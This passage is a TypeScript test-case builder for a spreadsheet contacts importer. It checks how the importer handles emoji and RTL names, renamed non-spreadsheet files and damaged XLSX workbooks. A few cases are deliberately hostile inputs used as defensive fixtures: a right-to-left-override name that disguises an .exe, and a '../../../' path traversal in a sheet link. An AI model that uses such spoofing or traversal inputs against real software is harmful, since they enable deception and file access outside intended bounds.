      'overlong cells',
      'CSV whose every name is over the cap (nothing imported, nothing changed)',
      'todos-longos.csv',
      () => csv(rows),
      { imported: 0 },
    );
  }

  // --- Emoji and right-to-left names -----------------------------------------------------------------
  {
    const who = ['👩‍👩‍👧 Família Silva', '🎉 Festa 🇧🇷', 'Zé 🧔🏽‍♂️'];
    const rows = people(...who);
    add(
      'emoji and right-to-left names',
      'CSV of emoji names (ZWJ sequences, flags, skin tones)',
      'emoji.csv',
      () => csv(rows),
      {
        imported: 3,
        check: expectNames(...who),
      },
    );
  }
  {
    const who = ['محمد علي', 'שלום כהן', 'Ana عربي Souza'];
    const rows = people(...who);
    add(
      'emoji and right-to-left names',
      'CSV of Arabic, Hebrew and mixed-direction names',
      'rtl.csv',
      () => csv(rows),
      {
        imported: 3,
        check: expectNames(...who),
      },
    );
  }
  {
    const rows = people('Joa\u0303o Decomposto', 'Z\u0351\u0364\u0350a\u0352\u0306l\u0343g\u0348o\u0347');
    add(
      'emoji and right-to-left names',
      'CSV of combining-mark names (macOS decomposed, Zalgo): composed',
      'marcas.csv',
      () => csv(rows),
      {
        imported: 2,
        check: expectNames(
          'João Decomposto',
          'Z\u0351\u0364\u0350a\u0352\u0306l\u0343g\u0348o\u0347'.normalize('NFC'),
        ),
      },
    );
  }
  {
    const rows = people('Ana \u202Egnp.exe', 'Bia\u200B\u200D Zero');
    add(
      'emoji and right-to-left names',
      'CSV with a bidi override and zero-width characters in names',
      'bidi.csv',
      () => csv(rows),
      {
        imported: 2,
      },
    );
  }
  {
    const who = ['🌵 Cacto Feliz', 'فاطمة الزهراء'];
    const rows = people(...who);
    add(
      'emoji and right-to-left names',
      'XLSX with an emoji sheet name and emoji / RTL names',
      'emoji.xlsx',
      () => rowsXlsx(rows, { sheetName: '📇 Contatos' }),
      { imported: 2, check: expectNames(...who) },
    );
  }

  // --- Renamed non-spreadsheets ----------------------------------------------------------------------
  const png = () => fixture('image-renamed.csv');
  add('renamed non-spreadsheet', 'a PNG renamed .csv', 'foto.csv', png, { error: 'unsupported_format' });
  add('renamed non-spreadsheet', 'a PNG renamed .xlsx', 'foto.xlsx', png, { error: 'unsupported_format' });
  add(
    'renamed non-spreadsheet',
    'a PDF renamed .csv',
    'boleto.csv',
    () => Buffer.concat([utf8('%PDF-1.7\n%âãÏÓ\n'), noise(500, 8)]),
    {
      error: 'unsupported_format',
    },
  );
  add(
    'renamed non-spreadsheet',
    'a gzip renamed .csv',
    'contatos.csv',
    () => zlib.gzipSync(csv(refusedPeople('Gzip'))),
    {
      error: 'unsupported_format',
    },
  );
  add(
    'renamed non-spreadsheet',
    'a ZIP of text files renamed .xlsx',
    'pasta.xlsx',
    () => writeZip([{ name: 'leia-me.txt', data: utf8('oi') }]),
    { error: 'unsupported_format' },
  );
  add(
    'renamed non-spreadsheet',
    'a ZIP renamed .csv',
    'pasta.csv',
    () => writeZip([{ name: 'contatos.csv', data: csv(refusedPeople('Zipado')) }]),
    {
      error: 'unsupported_format',
    },
  );
  add(
    'renamed non-spreadsheet',
    'a Word document renamed .xlsx',
    'carta.xlsx',
    () =>
      writeZip([
        { name: '[Content_Types].xml', data: utf8('<Types/>') },
        { name: 'word/document.xml', data: utf8('<w:document/>') },
      ]),
    { error: 'unsupported_format' },
  );
  add(
    'renamed non-spreadsheet',
    'an ELF executable renamed .csv',
    'programa.csv',
    () => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(8), noise(4000, 9)]),
    {
      error: 'unreadable_file',
    },
  );
  add('renamed non-spreadsheet', 'random bytes named .csv', 'lixo.csv', () => fixture('garbage.csv'), {
    error: 'unreadable_file',
  });
  add('renamed non-spreadsheet', 'an empty .xlsx', 'vazio.xlsx', () => Buffer.alloc(0), {
    error: 'empty_file',
  });

  // --- Damaged workbook structure --------------------------------------------------------------------
  add(
    'damaged workbook structure',
    'XLSX whose sheet link points outside the archive',
    'link.xlsx',
    () =>
      handXlsx({
        sheetTarget: '../../../fora.xml',
        worksheet: worksheetXml(inlineRow(1, ['Nome', 'Celular'])),
      }),
    {
      error: 'unreadable_file',
    },
  );
  add(
    'damaged workbook structure',
    'XLSX pointing at shared strings that are not there',
    'sst.xlsx',
    () =>
      handXlsx({
        sharedStrings: sharedStringsXml(['Nome', 'Celular']),
        worksheet: worksheetXml(sharedStringRow(1, 0, 1) + sharedStringRow(2, 70, 4_000_000_000)),
      }),
    { error: 'unreadable_file' },
  );
  add(
    'damaged workbook structure',
    'XLSX with a negative and a non-numeric shared-string index',
    'sst.xlsx',
    () =>
      handXlsx({
        sharedStrings: sharedStringsXml(['Nome', 'Celular']),
        worksheet: worksheetXml(sharedStringRow(1, 0, 1) + sharedStringRow(2, -1, 'abc')),
      }),
    { error: 'unreadable_file' },
  );
  add(
    'damaged workbook structure',
    'XLSX with worksheets but no workbook.xml',
    'sem-livro.xlsx',
    () =>
      writeZip([
        { name: 'xl/worksheets/sheet1.xml', data: utf8(worksheetXml(inlineRow(1, ['Nome', 'Celular']))) },
      ]),
    {
      error: 'unreadable_file',
    },
  );
  add(
    'damaged workbook structure',
    'XLSX whose worksheet is not XML',
    'ruido.xlsx',
    () => handXlsx({ worksheet: noise(3000, 11).toString('latin1') }),
    { error: 'unreadable_file' },
  );
  add(
    'damaged workbook structure',
    'XLSX with only a header row',
    'cabecalho.xlsx',
    () => rowsXlsx([['Nome', 'Celular']]),
    {
      error: 'no_data_rows',
    },
  );
  add(
    'damaged workbook structure',
    'XLSX with names and no phone column',
    'sem-telefone.xlsx',
    () =>
      rowsXlsx([
        ['Nome', 'Cidade'],
        ['Ana', 'Recife'],
      ]),
    { error: 'no_phone_column' },
  );
  add('damaged workbook structure', 'a password-protected workbook', 'senha.xlsx', encryptedWorkbook, {
    error: 'encrypted_file',
  });
  {
    const rows = people('Ana Reempacotada');
    add(
      'damaged workbook structure',
      'a valid workbook SheetJS wrote, re-packed (the control case)',
      'controle.xlsx',
      () => {
        const book = XLSX.utils.book_new();
        XLSX.utils.book_append_sheet(book, XLSX.utils.aoa_to_sheet(rows), 'C');
        return repack(XLSX.write(book, { type: 'buffer', bookType: 'xlsx' }) as Buffer);
      },
      { imported: 1, check: expectNames('Ana Reempacotada') },
    );
  }

  return cases;
}
